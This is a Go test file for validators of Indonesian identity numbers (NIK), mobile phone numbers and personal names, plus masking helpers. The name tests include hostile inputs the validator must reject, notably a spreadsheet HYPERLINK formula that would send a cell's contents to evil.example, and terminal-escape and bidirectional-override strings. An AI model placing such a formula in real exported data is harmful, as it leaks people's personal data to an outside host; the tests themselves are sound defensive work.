package queue

import (
	"errors"
	"strings"
	"testing"
)

func TestValidateNIK(t *testing.T) {
	tests := []struct {
		in, want, errHas string
	}{
		{"3201014107900001", "3201014107900001", ""},
		{"3201 0141 0790 0001", "3201014107900001", ""},
		{"3201010107900001", "3201010107900001", ""}, // man born 01-07
		{"3201017107900001", "3201017107900001", ""}, // woman born 31-07 (71)
		{"", "", "required"},
		{"320101410790001", "", "16 digits"},
		{"32010141079000012", "", "16 digits"},
		{"32010141079000a1", "", "16 digits"},
		{"9901014107900001", "", "province code 99"},
		{"2001014107900001", "", "province code 20"},
		{"3201010007900001", "", "birth day 00"},
		{"3201013207900001", "", "birth day 32"},
		{"3201014007900001", "", "birth day 40"},
		{"3201017207900001", "", "birth day 72"},
		{"3201014100900001", "", "birth month 00"},
		{"3201014113900001", "", "birth month 13"},
		{"3201014107900000", "", "serial number 0000"},
		// The birth date must exist; women add 40 to the day.
		{"3273013102800001", "", "birth date 31-02 does not exist"},
		{"3273017102800001", "", "birth date 31-02 does not exist"},
		{"3273013002800001", "", "birth date 30-02 does not exist"},
		{"3273012902800001", "3273012902800001", ""}, // 29 February: the year's century is unknown
		{"3273016902800001", "3273016902800001", ""}, // a woman born 29 February
		{"3273012802010001", "3273012802010001", ""},
		{"3273013101800001", "3273013101800001", ""},
		{"3273013104800001", "", "birth date 31-04 does not exist"},
		{"3273013004800001", "3273013004800001", ""},
		{"3273017106800001", "", "birth date 31-06 does not exist"},
		{"3273013109800001", "", "birth date 31-09 does not exist"},
		{"3273013111800001", "", "birth date 31-11 does not exist"},
		{"3273013112800001", "3273013112800001", ""},
		{"3273017112800001", "3273017112800001", ""},
	}
	for _, tt := range tests {
		got, err := ValidateNIK(tt.in)
		if tt.errHas == "" {
			if err != nil || got != tt.want {
				t.Errorf("ValidateNIK(%q) = %q, %v; want %q", tt.in, got, err, tt.want)
			}
			continue
		}
		if err == nil || !strings.Contains(err.Error(), tt.errHas) || !errors.Is(err, ErrInvalid) {
			t.Errorf("ValidateNIK(%q) error = %v; want one containing %q", tt.in, err, tt.errHas)
		}
		if !strings.HasPrefix(err.Error(), "nik:") {
			t.Errorf("ValidateNIK(%q) error %q does not name the field", tt.in, err)
		}
	}
}

func TestNormalizePhone(t *testing.T) {
	tests := []struct{ in, want, errHas string }{
		{"", "", ""},
		{"081234567890", "+6281234567890", ""},
		{"0812-3456-7890", "+6281234567890", ""},
		{"0812 345 678", "+62812345678", ""},
		{"6281234567890", "+6281234567890", ""},
		{"+62 812 3456 7890", "+6281234567890", ""},
		{"+62812345678", "+62812345678", ""},
		{"+6281234567", "", "10 to 13 digits"},
		{"0212345678", "", "mobile"},
		{"+6221234567", "", "mobile"},
		{"+1 555 1234", "", "mobile"},
		{"08123", "", "10 to 13 digits"},
		{"08123456789012", "", "10 to 13 digits"},
		{"0812345678x", "", "only digits"},
	}
	for _, tt := range tests {
		got, err := NormalizePhone(tt.in)
		if tt.errHas == "" {
			if err != nil || got != tt.want {
				t.Errorf("NormalizePhone(%q) = %q, %v; want %q", tt.in, got, err, tt.want)
			}
			continue
		}
		if err == nil || !strings.Contains(err.Error(), tt.errHas) || !strings.HasPrefix(err.Error(), "phone:") {
			t.Errorf("NormalizePhone(%q) error = %v; want phone error containing %q", tt.in, err, tt.errHas)
		}
	}
}

func TestValidateName(t *testing.T) {
	tests := []struct{ in, want, errHas string }{
		{"  Siti Aminah ", "Siti Aminah", ""},
		{"Nguyễn Thị Minh", "Nguyễn Thị Minh", ""},
		{"محمد", "محمد", ""},
		{strings.Repeat("a", 100), strings.Repeat("a", 100), ""},
		{strings.Repeat("é", 100), strings.Repeat("é", 100), ""},
		{"", "", "required"},
		{"   ", "", "required"},
		{strings.Repeat("a", 101), "", "at most 100"},
		{"Budi\x1b[31m", "", "control character"},
		{"Budi\nSantoso", "", "control character"},
		{"Budi\u009b31m", "", "control character"},
		{"Budi\u202eosotnaS", "", "bidirectional"},
		{"Bud\xffi", "", "UTF-8"},
		{`=HYPERLINK("http://evil.example/?d="&H2,"Klik")`, "", `must not begin with "="`},
		{"+1+1", "", `must not begin with "+"`},
		{"-2+3", "", `must not begin with "-"`},
		{"@SUM(1+1)", "", `must not begin with "@"`},
		{" \t=1+1", "", `must not begin with "="`},
		{"Siti = Aminah-Putri", "Siti = Aminah-Putri", ""},
		{"'=1+1", "'=1+1", ""},
	}
	for _, tt := range tests {
		got, err := ValidateName(tt.in)
		if tt.errHas == "" {
			if err != nil || got != tt.want {
				t.Errorf("ValidateName(%q) = %q, %v; want %q", tt.in, got, err, tt.want)
			}
			continue
		}
		if err == nil || !strings.Contains(err.Error(), tt.errHas) || !strings.HasPrefix(err.Error(), "name:") {
			t.Errorf("ValidateName(%q) error = %v; want name error containing %q", tt.in, err, tt.errHas)
		}
	}
}

func TestMask(t *testing.T) {
	if got := MaskNIK("3201014107900001"); got != "************0001" {
		t.Errorf("MaskNIK = %q", got)
	}
	if got := MaskPhone("+6281234567890"); got != "+62*******7890" {
		t.Errorf("MaskPhone = %q", got)
	}
	if got := MaskPhone(""); got != "" {
		t.Errorf("MaskPhone empty = %q", got)
	}
}
